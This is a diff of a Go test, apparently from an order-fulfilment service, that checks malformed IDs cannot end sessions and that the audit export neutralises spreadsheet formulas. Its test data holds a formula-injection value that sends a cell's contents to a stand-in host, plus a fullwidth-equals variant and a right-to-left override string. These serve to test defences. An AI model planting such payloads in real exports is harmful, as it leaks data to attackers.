@@ -353,11 +353,10 @@ func TestARefusalIsNotCalculatedByASpreadsheet(t *testing.T) {
 		sender, auditor := p.staff(t, operator.Fulfilment), p.staff(t, operator.Auditor)
 		wants := map[string]string{`=HYPERLINK("https://x.example/?"&A1)`: `'=HYPERLINK("https://x.example/?"&A1)`, "\uff1d1+1": "'\uff1d1+1", "owt\u202eone": `owt\u202eone`}
 		for id := range wants {
-			if r := sender.call("goods/hide", map[string]any{"goodsId": id}); r.Code == http.StatusOK {
-				t.Errorf("%q was hidden", id)
-			}
-			if r := sender.call("orders/address", map[string]any{"orderNo": id}); r.Code == http.StatusOK {
-				t.Errorf("the address of %q was shown", id)
+			for _, one := range []*person{sender, auditor} {
+				if r := one.call("sessions/end", map[string]any{"id": id}); r.Code == http.StatusOK {
+					t.Errorf("the session %q was ended", id)
+				}
 			}
 		}
 		file := dataOf[struct{ Content string }](t, auditor.call("audit/export", map[string]any{"from": 1}))
